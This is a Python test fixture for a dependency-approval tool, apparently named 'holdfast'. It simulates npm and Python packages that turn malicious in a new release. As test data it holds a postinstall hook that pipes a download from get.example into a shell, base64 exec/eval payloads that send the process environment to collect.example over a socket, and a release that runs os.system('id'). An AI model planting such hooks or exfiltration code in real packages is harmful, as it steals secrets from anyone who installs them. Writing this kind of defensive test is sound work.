"""One project of Python and npm packages whose benign dependencies turn, in one release each.

with turning(tmp_path) as project:          # locked, approved, committed; the code of both was looked at
    project.turn()                          # the registries have the new releases now

`thumbs` (npm) gets a postinstall that pipes a download to a shell, and requires `pixel-map`, which nobody signed;
`dates` (Python) gets none, and requires `zone-data`. Both decode and run a payload, and send the environment over a
socket. All other npm packages are signed by their publisher, and the policy asks for that.
"""

import contextlib
from collections.abc import Iterator
from pathlib import Path

from tests.support import repositories
from tests.support.approving import ApprovingProject, approver_text
from tests.support.index_server import IndexServer
from tests.support.index_server import serving as index_of
from tests.support.npm_project import NpmProject
from tests.support.npm_registry import release
from tests.support.npm_signing_registry import ROOT, SigningRegistry, signing_registry
from tests.support.packages import wheel
from tests.support.sigstore_identities import GitHubWorkflow

CALM = wheel("dates", "3.1.0", code={"dates/zone.py": "def today():\n    return 'today'\n"})
STRIPES = wheel("stripes", "1.0.0", ["dates>=3"])
TURNED = """\
import base64
import os
import socket

exec(base64.b64decode('cHJpbnQoMSkK'))


def report():
    with socket.create_connection(('collect.example', 443)) as channel:
        channel.sendall(repr(dict(os.environ)).encode())
"""
INDEX = b"module.exports = 1;\n"
SENDING = b"""\
const net = require("net");

eval(Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString());

exports.report = () => {
  const channel = net.connect(443, "collect.example");
  channel.write(JSON.stringify(process.env));
};
"""
SCRIPT = "curl https://get.example/i.sh | sh"


class TurnedProject(ApprovingProject):
    """The project, and what its registries have."""

    def __init__(self, folder: Path, index: IndexServer, npm: SigningRegistry) -> None:
        super().__init__(folder, ["stripes"], index.url)
        self.index, self.npm = index, npm
        own = NpmProject(folder, npm, {"gallery": "^1.0.0"})  # writes package.json and .npmrc into the same folder
        self.environment = {**own.environment, **self.environment}
        sigstore = npm.signer.sigstore
        self.configure(f'\n[{{holdfast}}.sigstore]\nroot = "{sigstore.digest}"\n')
        own.write(ROOT, sigstore.trust_root.decode())

    def turn(self) -> None:
        """Publish the new releases, and what they require."""
        self.index.add(wheel("dates", "3.2.0", ["zone-data>=1"], code={"dates/zone.py": TURNED}))
        self.index.add(wheel("zone-data", "1.0.0"))
        self.npm.bare.add("pixel-map@1.0.0")
        self.npm.publish(release("pixel-map", "1.0.0", files={"index.js": INDEX}))
        self.npm.publish(
            release(
                "thumbs",
                "2.1.0",
                files={"index.js": SENDING},
                scripts={"postinstall": SCRIPT},
                dependencies={"pixel-map": "^1.0.0"},
            )
        )
        self.npm.attest("thumbs", "2.1.0", GitHubWorkflow())

    def publish_worse(self) -> None:
        """Publish a release of `dates` that starts a program, and does nothing else."""
        self.index.add(
            wheel("dates", "3.3.0", ["zone-data>=1"], code={"dates/zone.py": "import os\nos.system('id')\n"})
        )


@contextlib.contextmanager
def turning(folder: Path) -> Iterator[TurnedProject]:
    """The project before anything turned."""
    gallery = release("gallery", "1.0.0", dependencies={"thumbs": "^2.0.0"}, files={"index.js": INDEX})
    calm = release("thumbs", "2.0.0", files={"index.js": INDEX})
    with index_of([CALM, STRIPES]) as index, signing_registry(gallery, calm) as npm:
        for name, version in (("gallery", "1.0.0"), ("thumbs", "2.0.0")):
            npm.attest(name, version, GitHubWorkflow())
        project = TurnedProject(folder, index, npm)
        project.must("init")
        project.configure(approver_text("ann"))
        project.configure('\n[{holdfast}.policy]\nrequire-signatures = ["npm:*"]\n')
        project.must("approvals", "baseline", *project.key("ann"))
        repositories.commit(project.folder)
        yield project
